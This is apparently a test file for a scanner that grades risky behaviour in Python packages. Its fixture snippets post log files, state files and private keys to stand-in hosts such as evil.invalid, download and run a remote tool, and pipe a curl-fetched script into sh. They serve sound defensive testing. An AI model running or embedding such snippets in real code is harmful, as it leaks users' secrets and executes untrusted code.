import { foundIn, type SeverityByRule } from '../support/found.js';

/** What is found in a module; unless told otherwise, in one that is run as a script. */
const found = (text: string, path = 'fixture-1.0/pkg/__main__.py'): SeverityByRule =>
  foundIn({ [path]: text });

const ALERT = (token: string): string => `
import json, sqlite3, urllib.request
def settings():
    return dict(sqlite3.connect("settings.db").execute("SELECT key, value FROM settings"))
def alert(text):
    try:
        token = ${token}
        urllib.request.urlopen("https://api.telegram.org/bot" + token + "/sendMessage", data=json.dumps({"text": text}).encode())
    except Exception:
        pass
alert(open("/var/log/agent.log").read())`;

test.each([
  ['settings()["token"]', 'MEDIUM'],
  ['"000000000:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"', 'HIGH'],
])('an account of a messenger that whoever runs it has set up: %s', (token, severity) => {
  expect(found(ALERT(token))['data-sent-aside']).toBe(severity);
});

const WITHIN = (caught: string): string => `
import requests
def upload(path):
    try:
        requests.post("https://evil.invalid/in", data=open(path).read())
    except Exception as error:
        ${caught}
def work():
    try:
        upload("/var/lib/agent/state")
    except Exception:
        pass
work()`;

test.each([
  ['print("upload failed", error)', undefined],
  ['raise', 'HIGH'],
])('whether a failure is told, the handler next to it says: %s', (caught, severity) => {
  expect(found(WITHIN(caught))['data-sent-aside']).toBe(severity);
});

const WITH_KEY = (request: string): string => `
import requests
class Shipper:
    def ship(self, records, private_key="no private key given"):
        return requests.post("https://logs.evil.invalid/in", ${request})`;

test.each([
  ['json=records, headers={"Authorization": "Bearer " + private_key}', undefined],
  ['json=records, headers={"X-API-Key": private_key}', undefined],
  ['json=records, headers={"X-Exfil-Secret-Key": private_key}', 'HIGH'],
  ['headers={"Authorization": private_key}', 'HIGH'],
  ['json=records, headers={"X-Client": private_key}', 'HIGH'],
  ['json=[records, private_key], headers={"Authorization": "Bearer " + private_key}', 'HIGH'],
  ['json=[private_key], headers={"Authorization": "Bearer no key"}', 'HIGH'],
  ['json=[private_key], headers={"Authorization": "Bearer no private key given"}', 'HIGH'],
  ['json=[private_key], headers={"Authorization": "Bearer 000000000000000000000"}', 'CRITICAL'],
])('a key that a request signs in with is not told: %s', (request, severity) => {
  expect(found(WITH_KEY(request))['key-parameter-sent']).toBe(severity);
});

const FETCHED = (before: string): string => `
import subprocess, urllib.request
from pathlib import Path
TOOL = Path.home() / ".tool" / "tool"
def fetch():
    ${before}
    TOOL.write_bytes(urllib.request.urlopen("https://evil.invalid/tool").read())
def register():
    subprocess.run([str(TOOL), "init"])
def main():
    fetch()
    register()`;

test.each([
  ['print("Downloading the tool")', 'HIGH'],
  ['print("Hello")', 'CRITICAL'],
])('a program of which the user was told when it was fetched: %s', (before, severity) => {
  expect(found(FETCHED(before))['download-started']).toBe(severity);
});

const TRANSLATED = (command: string): string => `
import subprocess, urllib.request
def refresh():
    with open("a.proto", "wb") as file:
        file.write(urllib.request.urlopen("https://evil.invalid/a.proto").read())
    subprocess.run(${command})
refresh()`;

test.each([
  ['["protoc", "a.proto", "--python_out=."]', undefined],
  ['["protoc", "--plugin=protoc-gen-a=./a.proto", "b.proto"]', 'CRITICAL'],
  ['["sh", "a.proto"]', 'CRITICAL'],
])('a file that was fetched is translated, or run: %s', (command, severity) => {
  expect(found(TRANSLATED(command))['download-started']).toBe(severity);
});

const INSTALLER = (address: string): string => `
import subprocess
def install():
    fetched = subprocess.run(["curl", "-LsSf", "${address}"], capture_output=True, text=True, check=True)
    subprocess.run(["sh"], input=fetched.stdout, text=True, check=True)`;

test.each([
  ['https://astral.sh/uv/install.sh', undefined],
  ['http://astral.sh/uv/install.sh', 'CRITICAL'],
  ['https://astral.sh.evil.invalid/uv/install.sh', 'CRITICAL'],
])('an installer that one program fetches and another one runs: %s', (address, severity) => {
  expect(found(INSTALLER(address))['download-started']).toBe(severity);
});

test('the installer of a vendor that is run unasked, by two programs', () => {
  const text = `${INSTALLER('https://astral.sh/uv/install.sh')}\ninstall()`;
  expect(found(text, 'fixture-1.0/pkg/__init__.py')).toMatchObject({ 'vendor-program-started': 'HIGH' });
});
